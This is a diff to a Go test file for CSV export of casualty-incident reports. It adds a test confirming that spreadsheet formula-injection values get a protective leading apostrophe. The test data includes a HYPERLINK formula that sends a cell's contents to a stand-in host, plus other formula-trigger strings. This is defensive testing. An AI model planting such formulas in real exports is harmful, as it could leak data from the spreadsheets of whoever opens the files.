@@ -60,7 +60,13 @@ func TestWriteCSVRoundTrip(t *testing.T) {
 					}
 					cells := map[string]string{}
 					for j, c := range head[3:] {
-						cells[c] = row[3+j]
+						// A guarded text cell reads back without its "'",
+						// as a spreadsheet shows it.
+						v := row[3+j]
+						if len(v) > 1 && v[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(v[1])) {
+							v = v[1:]
+						}
+						cells[c] = v
 					}
 					back, err := f.Unflatten(cells)
 					if err != nil {
@@ -119,5 +125,38 @@ func TestWriteCSVUnknownForm(t *testing.T) {
 	_, err := reports.WriteCSV(context.Background(), &buf, &memSource{}, forms.Builtin(), "nope", reports.CSVOptions{})
 	if !errors.Is(err, forms.ErrUnknownForm) || buf.Len() != 0 {
 		t.Fatalf("got %v and %d bytes, want ErrUnknownForm and nothing written", err, buf.Len())
+	}
+}
+
+// TestWriteCSVFormulaInjection: text cells that a spreadsheet would run as a
+// formula get a leading "'"; numbers, negative coordinates included, do not.
+func TestWriteCSVFormulaInjection(t *testing.T) {
+	src := &memSource{}
+	hyperlink := `=HYPERLINK("http://x/?"&W2,"x")`
+	src.add(t, "casualty", map[string]any{
+		"incident_date": "2024-05-01", "adm1": "+Attapeu", "adm2": "@SUM(1,2)", "village": hyperlink,
+		"location": map[string]any{"lat": -14.5, "lon": -106.25, "accuracy_m": 5.0},
+		"outcome":  "injured", "sex": "female", "age": 9.0, "cm_context": "remnant",
+		"consent": "yes", "name": "-2+3", "contact": "\tcmd",
+	})
+	var buf bytes.Buffer
+	if _, err := reports.WriteCSV(context.Background(), &buf, src, forms.Builtin(), "casualty", reports.CSVOptions{IncludePersonal: true}); err != nil {
+		t.Fatal(err)
+	}
+	rows := readCSV(t, buf.Bytes())
+	if len(rows) != 2 {
+		t.Fatalf("%d rows, want 2", len(rows))
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for col, want := range map[string]string{
+		"village": "'" + hyperlink, "adm1": "'+Attapeu", "adm2": "'@SUM(1,2)", "name": "'-2+3", "contact": "'\tcmd",
+		"location_lat": "-14.5", "location_lon": "-106.25", "age": "9", "age_group": "child", "incident_date": "2024-05-01",
+	} {
+		if got[col] != want {
+			t.Errorf("%s = %q, want %q", col, got[col], want)
+		}
 	}
 }
